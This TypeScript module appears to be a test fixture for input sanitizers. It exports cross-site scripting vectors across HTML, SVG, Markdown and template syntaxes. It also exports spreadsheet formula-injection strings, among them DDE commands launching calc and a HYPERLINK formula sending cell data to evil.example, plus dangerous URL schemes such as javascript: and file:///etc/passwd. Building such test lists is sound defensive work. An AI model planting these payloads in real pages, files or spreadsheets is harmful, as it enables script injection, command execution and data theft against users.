/** What sets a mark where it runs. */
const code = 'window.ran=1';

/** Markup and links that run `code` where text is taken for HTML, Markdown, XML, CSS or an address. */
const vectors = [
  `<script>${code}</script>`, `<script src=data:text/javascript,${code}></script>`, `<script\n>${code}</script\n>`, `<svg><script>${code}</script></svg>`,
  `<img src=x onerror=${code}>`, `<img src=x onerror="${code}">`, `<img/src=x/onerror=${code}>`, `<img src='x' onerror='${code}'>`, `<image src=x onerror=${code}>`,
  `<svg onload=${code}>`, `<svg/onload=${code}>`, `<svg><animate onbegin=${code} attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${code}"><text y=9>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' id='x' onload='${code}'/>#x"></use></svg>`, `<math><mtext><img src=x onerror=${code}></mtext></math>`,
  `<body onload=${code}>`, `<body onpageshow=${code}>`, `<iframe src="javascript:parent.${code}"></iframe>`, `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  `<object data="javascript:${code}"></object>`, `<embed src="javascript:${code}">`, `<video><source onerror=${code}></video>`, `<audio src=x onerror=${code}>`,
  `<details open ontoggle=${code}>x</details>`, `<input autofocus onfocus=${code}>`, `<select autofocus onfocus=${code}></select>`, `<textarea autofocus onfocus=${code}></textarea>`,
  `<marquee onstart=${code}>x</marquee>`, `<div style="animation:a 1s" onanimationstart=${code}><style>@keyframes a{}</style></div>`, `<link rel=stylesheet href=x onerror=${code}>`,
  `<style>@import 'javascript:${code}';</style>`, `<style onload=${code}></style>`, `<meta http-equiv=refresh content="0;url=javascript:${code}">`, `<base href="javascript:${code}//">`,
  `<form action="javascript:${code}"><button autofocus>x</button></form>`, `<button formaction="javascript:${code}">x</button>`, `<a href="javascript:${code}">x</a>`, `<a href="jav\tascript:${code}">x</a>`,
  `<template><script>${code}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${code}>">`, `<xmp><p title="</xmp><img src=x onerror=${code}>">`,
  `</textarea><img src=x onerror=${code}>`, `</title><script>${code}</script>`, `</style><script>${code}</script>`, `--><script>${code}</script>`, `]]><script>${code}</script>`, `"><script>${code}</script>`,
  `' autofocus onfocus=${code} x='`, `" autofocus onfocus=${code} x="`, `\` onerror=${code} \``, `&lt;script&gt;${code}&lt;/script&gt;`, `&#60;script>${code}&#60;/script>`, `\\u003cscript\\u003e${code}\\u003c/script\\u003e`,
  `[x](javascript:${code})`, `[x](<javascript:${code}>)`, `[x](data:text/html,<script>${code}</script>)`, `![x](x"onerror="${code})`, `<javascript:${code}>`, `[x]: javascript:${code}\n[x]`, `[[javascript:${code}|x]]`,
  `\`\`\`\n<script>${code}</script>`, `# x\n<script>${code}</script>`, `> <img src=x onerror=${code}>`, `---\ntitle: <script>${code}</script>\n---`, `{{constructor.constructor('${code}')()}}`, `\${${code}}`, `<%= ${code} %>`, `{{{note}}}<script>${code}</script>`,
]; // biome-ignore format: a list of scraps reads best close together

const swapCase = (text: string): string => text.replace(/<\/?[a-z]+/g, (tag) => tag.toUpperCase());

/** More than 120 texts that would run `window.ran=1`, if anybody took them for more than text. */
export const payloads: readonly string[] = [
  ...new Set([...vectors, ...vectors.map(swapCase), ...vectors.map((one) => `\u0000\u202e“${one}”`)]),
];

/** What spreadsheets take for a formula, a command or a link out. */
export const formulas = [
  "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/?"&A1,"x")', '=IMPORTXML("https://evil.example","//a")', '=WEBSERVICE("https://evil.example")',
  '+1+cmd|x', '-2+3+cmd|x', '@SUM(1+9)*cmd|x', '\t=1+1', '\r=1+1', '＝1+1', '＋1', '－1', '＠SUM(1)', "'=1+1", "''=1+1", '="a"&"b"', '=1+1";=2', '=1,=2', '"=1+1"', '=DDE("cmd";"/C calc";"x")',
]; // biome-ignore format: a list of scraps reads best close together

/** Addresses that must never become a link. */
export const badAddresses = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'javascript:alert(1)//https://a.example/', 'java\tscript:alert(1)', 'java\nscript:alert(1)', '\u0000javascript:alert(1)', '\u0001javascript:alert(1)',
  'javascript\u200b:alert(1)', 'javascript&colon;alert(1)', 'javascript%3Aalert(1)', 'javascript://a.example/%0Aalert(1)', 'view-source:javascript:alert(1)', 'feed:javascript:alert(1)', 'jar:javascript:alert(1)!/', 'livescript:x',
  'data:text/html,<script>x</script>', 'data:text/html;base64,PHNjcmlwdD4=', 'DATA:,x', 'data:image/svg+xml,<svg onload=x>', 'data:,', 'vbscript:msgbox(1)', 'VBScript:x', 'mocha:x', 'mhtml:https://a.example/', 'file:///etc/passwd',
  'file://server/share', 'FILE:///c:/x', 'blob:https://a.example/0b6c1c3e-5f0a-4d53-9d0c-0f2f6d1a0001', 'blob:null/x', 'filesystem:https://a.example/temporary/x', 'about:blank', 'about:config', 'chrome://settings/', 'chrome-extension://abc/card.html', 'moz-extension://abc/card.html',
  'resource://gre/', 'ws://a.example/', 'wss://a.example/', 'ftp://a.example/', 'mailto:a@a.example', 'tel:1', 'sms:1', 'intent://a.example/#Intent;scheme=https;end', 'ms-word:ofe|u|https://a.example/', 'steam://run', 'magnet:?xt=x', 'urn:x',
  'https://user:word@a.example/', 'https://user@a.example/', 'http://:word@a.example/', 'https://a.example@evil.example/', 'https://a.example%2f@evil.example/', 'https://', 'http://', 'https:///', 'https://%00/', 'https://a b/', 'https://a.example:99999/', 'https://[::1', 'https://xn--/',
  'https://\u202egro.elpmaxe/', '//a.example/', '/a', 'a.example', '#a', '', ' ', '\u202ehttps://a.example/',
]; // biome-ignore format: a list of scraps reads best close together
